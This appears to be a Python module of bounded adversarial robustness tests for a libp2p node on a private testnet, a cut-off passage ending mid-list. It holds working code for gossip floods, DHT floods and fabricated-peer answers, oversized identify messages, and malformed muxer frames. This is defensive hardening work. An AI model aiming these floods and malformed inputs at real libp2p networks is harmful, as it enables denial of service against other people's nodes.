"""The attacks: each a small async function with a bounded count and duration.

Every attack takes a :class:`Context` (the target, the testnet's pre-shared key, a time budget and
a scale factor for its counts) and returns an :class:`Outcome`: what it sent, how the target
answered (answers, refusals: ``na``, resets, closed connections) and, where it held a connection,
how long until the target cut it off. They never raise for anything the target does; an attack
that cannot even start (the target is down) reports it in ``errors``.

The attacker holds the testnet's PSK and fresh Ed25519 identities, nothing else. Stream-level
attacks use a py-libp2p host (:func:`node.net.host.build_host`), the layers below the streams are
spoken by hand (:mod:`node.adversary.wire`).

Why one module over 500 lines: it is a catalogue, one short function per attack sharing one
``Outcome`` shape and the same connection helpers; reading the attacks side by side is the point.
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import logging
import os
import struct
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager
from dataclasses import asdict, dataclass, field
from typing import Any

import multiaddr
import trio
from libp2p.abc import IHost, INetStream
from libp2p.custom_types import TProtocol
from libp2p.identity.identify.pb.identify_pb2 import Identify
from libp2p.kad_dht.pb.kademlia_pb2 import Message as KadMessage
from libp2p.kad_dht.pb.kademlia_pb2 import Record as KadRecord
from libp2p.peer.envelope import seal_record
from libp2p.peer.id import ID
from libp2p.peer.peer_record import PeerRecord
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.pb import rpc_pb2

from node.adversary import wire
from node.adversary.wire import SecureLink, Target, YamuxFrame
from node.net.host import build_host, key_pair_for
from protocol import codec
from protocol.identity import Identity

__all__ = ["ATTACKS", "Attack", "Context", "Outcome", "run_attack"]

log = logging.getLogger("veilnet.adversary")

MESHSUB_11 = "/meshsub/1.1.0"
MESHSUB_12 = "/meshsub/1.2.0"
KAD = "/ipfs/kad/1.0.0"
IDENTIFY = "/ipfs/id/1.0.0"
IDENTIFY_PUSH = "/ipfs/id/push/1.0.0"
PING = "/ipfs/ping/1.0.0"
ATTEST = "/veilnet/attest/1.0.0"
JOB = "/veilnet/job/1.0.0"
CHALLENGE = "/veilnet/challenge/1.0.0"
ATTEST_TOPIC = "veilnet/attest/1"
EVERY_PROTOCOL = (MESHSUB_11, MESHSUB_12, KAD, IDENTIFY, IDENTIFY_PUSH, PING, ATTEST, JOB, CHALLENGE)
LISTEN = "/ip4/127.0.0.1/tcp/0"
CONNECT_TIMEOUT = 5.0
PUBSUB_SIGNING_PREFIX = b"libp2p-pubsub:"
HALF_OPEN_SOURCE = "127.0.0.2"  # the half-open connections' source address (honest dials use 127.0.0.1)


@dataclass
class Context:
    """What an attack may use: the target, the PSK, a time budget, and a scale for its counts."""

    target: Target
    psk: bytes
    duration: float = 10.0
    scale: float = 1.0

    def count(self, full: int, least: int = 1) -> int:
        return max(least, int(full * self.scale))


@dataclass
class Outcome:
    """What one attack did and how the target answered. Counts are of the attack's own units."""

    attack: str
    sent: int = 0
    answered: int = 0
    refused: int = 0
    errors: int = 0
    bytes_sent: int = 0
    seconds: float = 0.0
    cut_off_after: float | None = None  # seconds until the target closed the attacker's connection
    notes: dict[str, Any] = field(default_factory=dict)

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)


AttackFn = Callable[[Context, Outcome], Awaitable[None]]
StreamHandler = Callable[[INetStream], Awaitable[None]]


@dataclass(frozen=True)
class Attack:
    name: str
    layer: str  # "stream", "gossip", "dht", "connection", "muxer", "handshake", "jobs"
    summary: str
    fn: AttackFn


ATTACKS: dict[str, Attack] = {}


def attack(name: str, layer: str) -> Callable[[AttackFn], AttackFn]:
    def register(fn: AttackFn) -> AttackFn:
        ATTACKS[name] = Attack(name, layer, (fn.__doc__ or "").strip().splitlines()[0], fn)
        return fn

    return register


async def run_attack(name: str, context: Context) -> Outcome:
    """Run one attack within its budget (plus a short grace for tearing down)."""
    outcome = Outcome(name)
    started = trio.current_time()
    with trio.move_on_after(context.duration + 15.0) as overall:
        try:
            await ATTACKS[name].fn(context, outcome)
        except Unreachable:
            pass  # counted in ``errors`` where it happened
        except Exception as exc:  # the attacker's own failure, reported, never raised
            outcome.errors += 1
            outcome.notes["failure"] = f"{type(exc).__name__}: {exc}"[:300]
    if overall.cancelled_caught:
        outcome.notes["overran"] = True
    outcome.seconds = round(trio.current_time() - started, 3)
    return outcome


# ------------------------------------------------------------------------------------ helpers


@asynccontextmanager
async def attacker_host(context: Context, identity: Identity | None = None) -> AsyncIterator[IHost]:
    """A py-libp2p host with a fresh identity (or ``identity``) inside the testnet's private network."""
    host = build_host(identity or Identity.generate(), context.psk, [LISTEN], target_peers=1)
    async with host.run([multiaddr.Multiaddr(LISTEN)]):
        yield host


class Unreachable(Exception):
    """The target could not be connected to (or would not hand out its bundle): the attack step
    is skipped and counted once in ``Outcome.errors``. :func:`run_attack` absorbs it; an attack
    that runs several steps side by side absorbs it per step (``contextlib.suppress``)."""


@asynccontextmanager
async def connected_host(
    context: Context,
    outcome: Outcome,
    identity: Identity | None = None,
    handlers: Mapping[str, StreamHandler] | None = None,
) -> AsyncIterator[IHost]:
    """An attacker host (``identity`` or a fresh one, serving ``handlers``) connected to the
    target; raises :class:`Unreachable` (counted as an error) when it cannot connect."""
    async with attacker_host(context, identity) as host:
        for protocol, handler in (handlers or {}).items():
            host.set_stream_handler(TProtocol(protocol), handler)
        await reconnect(host, context, outcome)
        yield host


async def reconnect(host: IHost, context: Context, outcome: Outcome) -> None:
    """Connect ``host`` to the target unless it still is; :class:`Unreachable` (counted) if not."""
    if connected(host, context.target) or await connect(host, context.target):
        return
    outcome.errors += 1
    raise Unreachable(f"cannot connect to {context.target.multiaddr}")


async def connect(host: IHost, target: Target) -> bool:
    with trio.move_on_after(CONNECT_TIMEOUT):
        try:
            await host.connect(PeerInfo(target.peer_id, [multiaddr.Multiaddr(target.multiaddr)]))
            return True
        except Exception as exc:
            log.debug("connect failed: %s", exc)
    return False


def connected(host: IHost, target: Target) -> bool:
    return target.peer_id in host.get_connected_peers()


async def open_stream(host: IHost, target: Target, protocol: str) -> INetStream | None:
    with trio.move_on_after(CONNECT_TIMEOUT):
        try:
            return await host.new_stream(target.peer_id, [TProtocol(protocol)])
        except Exception as exc:
            log.debug("new_stream %s refused: %s", protocol, exc)
    return None


async def read_answer(stream: INetStream, timeout: float = 3.0) -> str:
    """Read until the target answers, resets, closes or stays silent: 'answered', 'reset', 'closed',
    'silent'."""
    got = b""
    with trio.move_on_after(timeout):
        try:
            while len(got) < 1 << 16:
                chunk = await stream.read(4096)
                if not chunk:
                    return "answered" if got else "closed"
                got += chunk
            return "answered"
        except Exception as exc:
            if got:
                return "answered"
            return (
                "reset" if "reset" in type(exc).__name__.lower() or "reset" in str(exc).lower() else "closed"
            )
    return "answered" if got else "silent"


def tally(outcome: Outcome, verdict: str) -> None:
    if verdict == "answered":
        outcome.answered += 1
    elif verdict in ("reset", "closed"):
        outcome.refused += 1
    outcome.notes[verdict] = outcome.notes.get(verdict, 0) + 1


async def reset_quietly(stream: INetStream) -> None:
    with trio.move_on_after(1.0):
        try:
            await stream.reset()
        except Exception:
            return


def frame4(payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + payload


async def watch_cut_off(host: IHost, target: Target, outcome: Outcome, started: float) -> None:
    """Record when the target drops our connection (run in a nursery; cancelled with it)."""
    while connected(host, target):
        await trio.sleep(0.05)
    outcome.cut_off_after = round(trio.current_time() - started, 3)


# ------------------------------------------------------------------------ garbage on streams


def _garbage_inputs() -> list[tuple[str, bytes]]:
    """Cut, oversized, random and schema-breaking inputs, the same for every protocol."""
    return [
        ("meshsub-cut-field", bytes.fromhex("020a05")),  # a length 2, then a cut-off protobuf field
        ("random-200", os.urandom(200)),
        ("random-4k", os.urandom(4096)),
        ("varint-huge-length", b"\xff\xff\xff\xff\x0f" + os.urandom(64)),
        ("varint-too-long", b"\xff" * 11),
        ("frame4-huge-length", b"\x7f\xff\xff\xff" + os.urandom(64)),
        ("frame4-not-msgpack", frame4(b"\xc1" * 5)),
        ("frame4-cut-map", b"\x00\x00\x00\x03" + codec.encode({"v": 9})),
        ("frame4-wrong-schema", frame4(codec.encode({"v": 2, "x": 1}))),
        ("varint-cut", b"\x80\x80"),
        ("protobuf-wrong-wire-types", wire.varint_frame(b"\x0f\x0f\x0f\x0f\x0f\x0f")),
        ("empty-then-close", b""),
    ]


@attack("garbage-streams", "stream")
async def garbage_streams(context: Context, outcome: Outcome) -> None:
    """Garbage, cut, oversized and schema-breaking input on every protocol the node speaks."""
    inputs = _garbage_inputs()
    deadline = trio.current_time() + context.duration
    async with attacker_host(context) as host:
        for protocol in EVERY_PROTOCOL:
            for label, payload in inputs:
                if trio.current_time() > deadline:
                    return
                try:
                    await reconnect(host, context, outcome)
                except Unreachable:
                    outcome.notes.setdefault("connect_failed_at", f"{protocol} {label}")
                    continue
                stream = await open_stream(host, context.target, protocol)
                if stream is None:
                    outcome.errors += 1
                    continue
                outcome.sent += 1
                outcome.bytes_sent += len(payload)
                try:
                    if payload:
                        await stream.write(payload)
                    await stream.close()
                except Exception:
                    tally(outcome, "reset")
                    continue
                tally(outcome, await read_answer(stream, timeout=2.0))
                await reset_quietly(stream)


@attack("meshsub-cut-field", "stream")
async def meshsub_cut_field(context: Context, outcome: Outcome) -> None:
    """The three bytes ``02 0a 05`` on /meshsub/1.2.0 and /meshsub/1.1.0, repeated."""
    rounds = context.count(10)
    async with attacker_host(context) as host:
        for index in range(2 * rounds):
            protocol = MESHSUB_12 if index % 2 == 0 else MESHSUB_11
            try:
                await reconnect(host, context, outcome)
            except Unreachable:
                continue
            stream = await open_stream(host, context.target, protocol)
            if stream is None:
                outcome.errors += 1
                continue
            outcome.sent += 1
            try:
                await stream.write(bytes.fromhex("020a05"))
            except Exception:
                tally(outcome, "reset")
                continue
            # Leave the stream open: the node must read the cut field and survive it.
            tally(outcome, await read_answer(stream, timeout=1.0))
            await reset_quietly(stream)


# ------------------------------------------------------------------------------------ gossip


def signed_gossip(identity: Identity, data: bytes, seqno: int, topic: str = ATTEST_TOPIC) -> rpc_pb2.Message:
    """A pubsub message signed as py-libp2p's strict signing expects, so it reaches the validator."""
    key_pair = key_pair_for(identity)
    message = rpc_pb2.Message(
        from_id=identity.peer_id, data=data, seqno=seqno.to_bytes(8, "big"), topicIDs=[topic]
    )
    message.signature = key_pair.private_key.sign(PUBSUB_SIGNING_PREFIX + message.SerializeToString())
    message.key = key_pair.public_key.serialize()
    return message


def rpc_bytes(rpc: rpc_pb2.RPC) -> bytes:
    return wire.varint_frame(rpc.SerializeToString())


def subscribe_rpc(topic: str = ATTEST_TOPIC) -> rpc_pb2.RPC:
    return rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=topic)])


async def _gossip_session(
    context: Context,
    outcome: Outcome,
    identity: Identity,
    messages: Callable[[int], bytes],
    count: int,
    rate: float,
    deadline: float,
) -> None:
    """One identity: connect, subscribe, then write ``count`` RPCs at ``rate`` per second."""
    with contextlib.suppress(Unreachable):  # one of several sessions side by side
        async with connected_host(context, outcome, identity) as host:
            stream = await open_stream(host, context.target, MESHSUB_11)
            if stream is None:
                outcome.errors += 1
                return
            started = trio.current_time()
            async with trio.open_nursery() as nursery:
                nursery.start_soon(watch_cut_off, host, context.target, outcome, started)
                try:
                    await stream.write(rpc_bytes(subscribe_rpc()))
                    for index in range(count):
                        if trio.current_time() > deadline:
                            break
                        payload = messages(index)
                        await stream.write(payload)
                        outcome.sent += 1
                        outcome.bytes_sent += len(payload)
                        await trio.sleep_until(started + (index + 1) / rate)
                except Exception as exc:
                    outcome.refused += 1
                    outcome.notes["stream_ended"] = f"{type(exc).__name__}"
                nursery.cancel_scope.cancel()


@attack("gossip-bad-from", "gossip")
async def gossip_bad_from(context: Context, outcome: Outcome) -> None:
    """Well-formed gossip whose ``from`` is a sha256 multihash and whose ``key`` is not a PublicKey."""
    identity = Identity.generate()
    seq = int(time.time() * 1e9)

    def message(index: int) -> bytes:
        fake_from = b"\x12\x20" + hashlib.sha256(os.urandom(16)).digest()
        bad = rpc_pb2.Message(
            from_id=fake_from,
            data=os.urandom(64),
            seqno=(seq + index).to_bytes(8, "big"),
            topicIDs=[ATTEST_TOPIC],
            signature=os.urandom(64),
            key=b"\x08\x07\x12\x03abc" if index % 2 else b"\xff",
        )
        return rpc_bytes(rpc_pb2.RPC(publish=[bad]))

    count = context.count(20)
    await _gossip_session(
        context, outcome, identity, message, count, rate=10.0, deadline=trio.current_time() + context.duration
    )


@attack("gossip-flood", "gossip")
async def gossip_flood(context: Context, outcome: Outcome) -> None:
    """Garbage bundles, validly signed, at ~1,000 msg/s from rotating identities (batches of 10)."""
    identities = context.count(20, least=2)
    total_rate = 1000.0 * context.scale
    batch = 10
    deadline = trio.current_time() + context.duration
    per_identity = int(total_rate * context.duration / identities / batch) + 1

    def maker(identity: Identity) -> Callable[[int], bytes]:
        seq = int(time.time() * 1e9)

        def message(index: int) -> bytes:
            publish = [
                signed_gossip(identity, os.urandom(300), seq + index * batch + k) for k in range(batch)
            ]
            return rpc_bytes(rpc_pb2.RPC(publish=publish))

        return message

    async with trio.open_nursery() as nursery:
        for _ in range(identities):
            identity = Identity.generate()
            nursery.start_soon(
                _gossip_session,
                context,
                outcome,
                identity,
                maker(identity),
                per_identity,
                total_rate / identities / batch,
                deadline,
            )
    outcome.notes["messages"] = outcome.sent * batch
    outcome.notes["identities"] = identities


async def target_bundle(host: IHost, context: Context, outcome: Outcome) -> bytes:
    """The target's bundle (:func:`fetch_bundle`); :class:`Unreachable` (counted) if it gives none."""
    bundle = await fetch_bundle(host, context.target)
    if bundle is None:
        outcome.errors += 1
        raise Unreachable("the target handed out no bundle")
    return bundle


async def fetch_bundle(host: IHost, target: Target) -> bytes | None:
    """The target's own attestation bundle, as anyone may fetch it over /veilnet/attest/1.0.0."""
    stream = await open_stream(host, target, ATTEST)
    if stream is None:
        return None
    try:
        await stream.write(frame4(codec.encode({"v": 1, "type": "get-bundle"})))
        with trio.fail_after(5):
            header = b""
            while len(header) < 4:
                header += await stream.read(4 - len(header))
            (length,) = struct.unpack(">I", header)
            body = b""
            while len(body) < length:
                body += await stream.read(length - len(body))
        return bytes(codec.decode(body)["bundle"])
    except Exception as exc:
        log.debug("fetching the bundle failed: %s", exc)
        return None
    finally:
        await reset_quietly(stream)


@attack("gossip-replay", "gossip")
async def gossip_replay(context: Context, outcome: Outcome) -> None:
    """The target's own valid bundle, re-published under the attacker's pubsub signature, repeated."""
    async with connected_host(context, outcome) as host:
        bundle = await target_bundle(host, context, outcome)
    identity = Identity.generate()
    seq = int(time.time() * 1e9)

    def message(index: int) -> bytes:
        return rpc_bytes(rpc_pb2.RPC(publish=[signed_gossip(identity, bundle, seq + index)]))

    await _gossip_session(
        context,
        outcome,
        identity,
        message,
        context.count(200),
        rate=100.0,
        deadline=trio.current_time() + context.duration,
    )


@attack("px-injection", "gossip")
async def px_injection(context: Context, outcome: Outcome) -> None:
    """PRUNEs carrying made-up peers (signed records pointing at a counting listener of ours)."""
    dials = 0

    async def count_dial(stream: trio.SocketStream) -> None:
        nonlocal dials
        dials += 1
        await stream.aclose()

    async with trio.open_nursery() as nursery:
        listeners = await nursery.start(functools.partial(trio.serve_tcp, count_dial, 0, host="127.0.0.1"))
        port = listeners[0].socket.getsockname()[1]
        fake_peers = []
        for _ in range(context.count(16)):
            fake = Identity.generate()
            record = PeerRecord(ID(fake.peer_id), [multiaddr.Multiaddr(f"/ip4/127.0.0.1/tcp/{port}")])
            envelope = seal_record(record, key_pair_for(fake).private_key)
            fake_peers.append(
                rpc_pb2.PeerInfo(peerID=fake.peer_id, signedPeerRecord=envelope.marshal_envelope())
            )
        prune = rpc_pb2.ControlPrune(topicID=ATTEST_TOPIC, peers=fake_peers, backoff=1)
        graft = rpc_pb2.ControlGraft(topicID=ATTEST_TOPIC)
        identity = Identity.generate()

        def message(index: int) -> bytes:
            control = (
                rpc_pb2.ControlMessage(graft=[graft])
                if index % 2 == 0
                else rpc_pb2.ControlMessage(prune=[prune])
            )
            return rpc_bytes(rpc_pb2.RPC(control=control))

        await _gossip_session(
            context,
            outcome,
            identity,
            message,
            context.count(40),
            rate=4.0,
            deadline=trio.current_time() + context.duration,
        )
        await trio.sleep(min(3.0, context.duration))  # dials the target makes after the last PRUNE
        nursery.cancel_scope.cancel()
    outcome.notes["fake_peers"] = len(fake_peers)
    outcome.notes["dials_to_fake_peers"] = dials


# --------------------------------------------------------------------------------------- DHT


def kad_bytes(message: KadMessage) -> bytes:
    return wire.varint_frame(message.SerializeToString())


async def _kad_requests(
    context: Context,
    outcome: Outcome,
    make: Callable[[int], KadMessage],
    count: int,
    rate: float | None,
    read_answers: bool,
) -> None:
    """``count`` kad requests on one stream (reopened if the target resets it), bounded in time."""
    deadline = trio.current_time() + context.duration
    async with connected_host(context, outcome) as host:
        started = trio.current_time()
        stream: INetStream | None = None
        reader: wire.Reader | None = None
        async with trio.open_nursery() as nursery:
            nursery.start_soon(watch_cut_off, host, context.target, outcome, started)
            for index in range(count):
                if trio.current_time() > deadline or outcome.cut_off_after is not None:
                    break
                if stream is None:
                    stream = await open_stream(host, context.target, KAD)
                    if stream is None:
                        outcome.errors += 1
                        break
                    reader = wire.Reader(stream)
                payload = kad_bytes(make(index))
                try:
                    await stream.write(payload)
                    outcome.sent += 1
                    outcome.bytes_sent += len(payload)
                    if read_answers and reader is not None:
                        with trio.fail_after(5):
                            await reader.exactly(await reader.uvarint())
                        outcome.answered += 1
                except Exception as exc:
                    outcome.refused += 1
                    outcome.notes["stream_ended"] = type(exc).__name__
                    await reset_quietly(stream)
                    stream = None
                if rate:
                    await trio.sleep_until(started + (index + 1) / rate)
            nursery.cancel_scope.cancel()


@attack("dht-put-flood", "dht")
async def dht_put_flood(context: Context, outcome: Outcome) -> None:
    """PUT_VALUE records of ~1 MiB under random keys, one stream, as fast as the target takes them."""
    value = os.urandom((1 << 20) - 1024)

    def put(index: int) -> KadMessage:
        key = b"/attacker/" + os.urandom(16).hex().encode()  # py-libp2p wants UTF-8 keys
        record = KadRecord(key=key, value=value, timeReceived=str(time.time()))
        return KadMessage(type=KadMessage.MessageType.PUT_VALUE, key=key, record=record)

    await _kad_requests(context, outcome, put, context.count(150), rate=None, read_answers=True)
    outcome.notes["record_bytes"] = len(value)


@attack("dht-query-flood", "dht")
async def dht_query_flood(context: Context, outcome: Outcome) -> None:
    """FIND_NODE and GET_PROVIDERS queries on one stream, each answer read, up to ~500/s."""

    def query(index: int) -> KadMessage:
        kind = KadMessage.MessageType.FIND_NODE if index % 2 else KadMessage.MessageType.GET_PROVIDERS
        return KadMessage(type=kind, key=hashlib.sha256(os.urandom(8)).digest())

    await _kad_requests(
        context,
        outcome,
        query,
        context.count(int(500 * context.duration), least=10),
        rate=500.0 * context.scale,
        read_answers=True,
    )


def fabricated_peers(count: int, port: int = 9) -> list[KadMessage.Peer]:
    """Made-up peers: random (valid-looking) peer ids at loopback addresses nobody listens on."""
    peers = []
    for index in range(count):
        fake = ID(
            b"\x00\x24\x08\x01\x12\x20" + hashlib.sha256(index.to_bytes(4, "big") + os.urandom(4)).digest()
        )
        address = multiaddr.Multiaddr(f"/ip4/127.0.{(index >> 8) & 255}.{index & 255}/tcp/{port}")
        peers.append(
            KadMessage.Peer(
                id=fake.to_bytes(),
                addrs=[address.to_bytes()],
                connection=KadMessage.ConnectionType.CAN_CONNECT,
            )
        )
    return peers


@attack("dht-fabricated-answers", "dht")
async def dht_fabricated_answers(context: Context, outcome: Outcome) -> None:
    """Answer every FIND_NODE / GET_PROVIDERS the target asks us with thousands of made-up peers."""
    peers = fabricated_peers(context.count(3000))

    async def answer(stream: INetStream) -> None:
        reader = wire.Reader(stream)
        try:
            while True:
                request = KadMessage()
                request.ParseFromString(await reader.exactly(await reader.uvarint()))
                response = KadMessage(type=request.type, key=request.key, closerPeers=peers)
                if request.type == KadMessage.MessageType.GET_PROVIDERS:
                    response.providerPeers.extend(peers[:20])
                await stream.write(kad_bytes(response))
                outcome.sent += 1
                outcome.bytes_sent += response.ByteSize()
        except Exception:
            await reset_quietly(stream)

    async with connected_host(context, outcome, handlers={KAD: answer}) as host:
        # Also ask the target ourselves, so it learns we speak kad and adds us to its table.
        stream = await open_stream(host, context.target, KAD)
        if stream is not None:
            try:
                await stream.write(
                    kad_bytes(KadMessage(type=KadMessage.MessageType.FIND_NODE, key=os.urandom(32)))
                )
                outcome.answered += 1
            except Exception:
                outcome.refused += 1
        await trio.sleep(context.duration)
    outcome.notes["fabricated_peers_per_answer"] = len(peers)
    outcome.notes["answers_sent"] = outcome.sent


def huge_peer_record(identity: Identity, addresses: int) -> bytes:
    """A validly signed peer record with ``addresses`` distinct addresses (~20 bytes each)."""
    addrs = [
        multiaddr.Multiaddr(f"/ip6/fd00::{index >> 16:x}:{index & 0xFFFF:x}/tcp/{1 + index % 65000}")
        for index in range(addresses)
    ]
    envelope = seal_record(PeerRecord(ID(identity.peer_id), addrs), key_pair_for(identity).private_key)
    return envelope.marshal_envelope()


@attack("dht-huge-sender-record", "dht")
async def dht_huge_sender_record(context: Context, outcome: Outcome) -> None:
    """FIND_NODE requests carrying a signed sender record with tens of thousands of addresses."""
    identity = Identity.generate()
    record = huge_peer_record(identity, context.count(40_000))
    deadline = trio.current_time() + context.duration
    async with connected_host(context, outcome, identity) as host:
        for _ in range(context.count(3)):
            if trio.current_time() > deadline:
                break
            stream = await open_stream(host, context.target, KAD)
            if stream is None:
                outcome.errors += 1
                break
            message = KadMessage(
                type=KadMessage.MessageType.FIND_NODE, key=os.urandom(32), senderRecord=record
            )
            try:
                await stream.write(kad_bytes(message))
                outcome.sent += 1
                outcome.bytes_sent += len(record)
                reader = wire.Reader(stream)
                with trio.fail_after(max(1.0, deadline - trio.current_time())):
                    await reader.exactly(await reader.uvarint())
                outcome.answered += 1
            except Exception:
                outcome.refused += 1
            await reset_quietly(stream)
    outcome.notes["record_bytes"] = len(record)


# ---------------------------------------------------------------------------------- identify


def huge_identify(identity: Identity, addresses: int, protocols: int, record_addresses: int) -> bytes:
    message = Identify(
        protocol_version="ipfs/0.1.0",
        agent_version="veilnet-adversary",
        public_key=key_pair_for(identity).public_key.serialize(),
        listen_addrs=[
            multiaddr.Multiaddr(f"/ip4/10.{(i >> 16) & 255}.{(i >> 8) & 255}.{i & 255}/tcp/4001").to_bytes()
            for i in range(addresses)
        ],
        protocols=[f"/adversary/{index:08d}/{'x' * 24}" for index in range(protocols)],
    )
    if record_addresses:
        message.signedPeerRecord = huge_peer_record(identity, record_addresses)
    return wire.varint_frame(message.SerializeToString())


@attack("identify-huge", "stream")
async def identify_huge(context: Context, outcome: Outcome) -> None:
    """Identify push and identify answers with a ~1 MiB signed record, huge address and protocol lists."""
    variants = [  # each just under py-libp2p's 1 MiB identify limit at scale 1
        ("record", (0, 0, context.count(40_000))),
        ("addresses", (context.count(90_000), 0, 0)),
        ("protocols", (0, context.count(22_000), 0)),
    ]
    deadline = trio.current_time() + context.duration
    identities = context.count(3)
    for round_index in range(identities):
        for label, (addresses, protocols, record_addresses) in variants:
            if trio.current_time() > deadline:
                return
            identity = Identity.generate()
            payload = huge_identify(identity, addresses, protocols, record_addresses)
            outcome.notes[f"{label}_bytes"] = len(payload)
            answer_timeout = 2.0 if round_index else 4.0
            with contextlib.suppress(Unreachable):  # the next identity tries again
                await _push_identify(context, outcome, identity, payload, answer_timeout)


async def _push_identify(
    context: Context, outcome: Outcome, identity: Identity, payload: bytes, answer_timeout: float
) -> None:
    """One identity pushes ``payload`` as identify push and answers the target's identify with it."""

    async def answer_identify(stream: INetStream) -> None:
        try:
            await stream.write(payload)
            await stream.close()
            outcome.notes["identify_answers"] = outcome.notes.get("identify_answers", 0) + 1
        except Exception:
            await reset_quietly(stream)

    async with connected_host(context, outcome, identity, {IDENTIFY: answer_identify}) as host:
        stream = await open_stream(host, context.target, IDENTIFY_PUSH)
        if stream is None:
            outcome.errors += 1
            return
        try:
            await stream.write(payload)
            await stream.close()
            outcome.sent += 1
            outcome.bytes_sent += len(payload)
        except Exception:
            outcome.refused += 1
        tally(outcome, await read_answer(stream, timeout=answer_timeout))


# ------------------------------------------------------------------------ connections, streams


@attack("identity-churn", "connection")
async def identity_churn(context: Context, outcome: Outcome) -> None:
    """Fresh identities that connect, let identify run for a second, and leave (~60 of them)."""
    deadline = trio.current_time() + context.duration
    limiter = trio.CapacityLimiter(4)

    async def one() -> None:
        async with limiter:
            if trio.current_time() > deadline:
                return
            async with attacker_host(context) as host:
                outcome.sent += 1
                if not await connect(host, context.target):
                    outcome.refused += 1
                    return
                outcome.answered += 1
                await trio.sleep(1.0)

    async with trio.open_nursery() as nursery:
        for _ in range(context.count(60)):
            nursery.start_soon(one)


@attack("reconnect-flood", "connection")
async def reconnect_flood(context: Context, outcome: Outcome) -> None:
    """One identity connecting and disconnecting ~300 times; then a fresh identity must still get in."""
    deadline = trio.current_time() + context.duration
    async with attacker_host(context) as host:
        for _ in range(context.count(300)):
            if trio.current_time() > deadline:
                break
            outcome.sent += 1
            if await connect(host, context.target):
                outcome.answered += 1
                with trio.move_on_after(2.0):
                    try:
                        await host.disconnect(context.target.peer_id)
                    except Exception:
                        outcome.errors += 1
            else:
                outcome.refused += 1
    async with attacker_host(context) as fresh:
        outcome.notes["fresh_identity_connects_after"] = await connect(fresh, context.target)


@attack("challenge-flood", "jobs")
async def challenge_flood(context: Context, outcome: Outcome) -> None:
    """ChallengeRequests as fast as the target answers, 8 at a time, each on its own stream."""
    from protocol.jobs.messages import ChallengeRequest

    deadline = trio.current_time() + context.duration
    async with connected_host(context, outcome) as host:
        started = trio.current_time()

        async def worker() -> None:
            while trio.current_time() < deadline and outcome.cut_off_after is None:
                stream = await open_stream(host, context.target, CHALLENGE)
                if stream is None:
                    outcome.refused += 1
                    await trio.sleep(0.05)
                    continue
                outcome.sent += 1
                try:
                    await stream.write(frame4(ChallengeRequest(nonce=os.urandom(32)).to_wire()))
                except Exception:
                    outcome.refused += 1
                    continue
                tally(outcome, await read_answer(stream, timeout=5.0))
                await reset_quietly(stream)

        async with trio.open_nursery() as nursery:
            nursery.start_soon(watch_cut_off, host, context.target, outcome, started)
            async with trio.open_nursery() as workers:
                for _ in range(8):
                    workers.start_soon(worker)
            nursery.cancel_scope.cancel()


@attack("stream-flood", "stream")
async def stream_flood(context: Context, outcome: Outcome) -> None:
    """2,000 ping streams opened through py-libp2p, 32 at a time, and held idle, then dropped."""
    deadline = trio.current_time() + context.duration
    opening_until = trio.current_time() + context.duration / 2
    held: list[INetStream] = []
    wanted = context.count(2000)
    async with connected_host(context, outcome) as host:

        async def opener() -> None:
            while outcome.sent < wanted and trio.current_time() < opening_until:
                outcome.sent += 1
                stream = await open_stream(host, context.target, PING)
                if stream is None:
                    outcome.refused += 1
                    if not connected(host, context.target):
                        return
                    continue
                held.append(stream)

        async with trio.open_nursery() as nursery:
            for _ in range(32):
                nursery.start_soon(opener)
        outcome.answered = len(held)
        await trio.sleep(max(0.0, deadline - trio.current_time()))
        for stream in held:
            await reset_quietly(stream)


# ------------------------------------------------------------------- below the streams: muxers


async def _held_link(context: Context, outcome: Outcome, muxer: str = wire.YAMUX) -> SecureLink | None:
    try:
        with trio.fail_after(CONNECT_TIMEOUT):
            return await SecureLink.open(context.target, context.psk, muxer=muxer)
    except wire.Refused as exc:
        outcome.refused += 1
        outcome.notes["refused"] = str(exc)[:200]
    except Exception as exc:
        outcome.errors += 1
        outcome.notes["connect_failed"] = f"{type(exc).__name__}: {exc}"[:200]
    return None


async def _closed_within(link: SecureLink, seconds: float) -> bool:
    """True if the target ends the connection within ``seconds`` (its frames are read and dropped)."""
    with trio.move_on_after(seconds):
        if link.muxer == wire.YAMUX:
            await wire.yamux_drain(link)
        else:
            await _drain_any(link)
        return True
    return False


async def _drain_any(link: SecureLink) -> None:
    while True:
        try:
            await link.reader.exactly(1)
        except Exception:
            return


def _mplex_header(stream_id: int, flag: int) -> bytes:
    return wire.uvarint(stream_id << 3 | flag)


MPLEX_FRAMES: list[tuple[str, bytes]] = [
    ("unknown-flag", _mplex_header(1, 7) + wire.uvarint(4) + b"abcd"),
    ("message-on-unopened-stream", _mplex_header(5, 2) + wire.uvarint(4) + b"abcd"),
    ("huge-length", _mplex_header(1, 0) + wire.uvarint(1 << 40)),
    ("varint-overlong", b"\xff" * 12),
    ("close-unopened", _mplex_header(9, 4) + wire.uvarint(0)),
    ("reset-unopened", _mplex_header(9, 6) + wire.uvarint(0)),
    (
        "open-then-reset-twice",
        _mplex_header(3, 0) + wire.uvarint(0) + (_mplex_header(3, 6) + wire.uvarint(0)) * 2,
    ),
    ("open-same-id-twice", (_mplex_header(7, 0) + wire.uvarint(1) + b"x") * 2),
]

YAMUX_FRAMES: list[tuple[str, bytes]] = [
    ("bad-version", YamuxFrame(wire.YAMUX_DATA, wire.SYN, 1, 0, version=1).header()),
    ("unknown-type", YamuxFrame(7, 0, 1, 0).header()),
    ("data-on-unopened-stream", wire.yamux_data(99, b"hello")),
    (
        "window-overflow",
        wire.yamux_open(1) + YamuxFrame(wire.YAMUX_WINDOW_UPDATE, 0, 1, 0xFFFFFFFF).header() * 2,
    ),
    ("syn-on-even-id", wire.yamux_open(2)),
    ("syn-twice", wire.yamux_open(3) + wire.yamux_open(3)),
    (
        "syn-and-rst-flags",
        YamuxFrame(wire.YAMUX_WINDOW_UPDATE, wire.SYN | wire.RST | wire.FIN, 5, 0).header(),
    ),
    ("ping-ack-unasked", YamuxFrame(wire.YAMUX_PING, wire.ACK, 0, 12345).header()),
    ("go-away-garbage-code", YamuxFrame(wire.YAMUX_GO_AWAY, 0, 0, 0xDEADBEEF).header()),
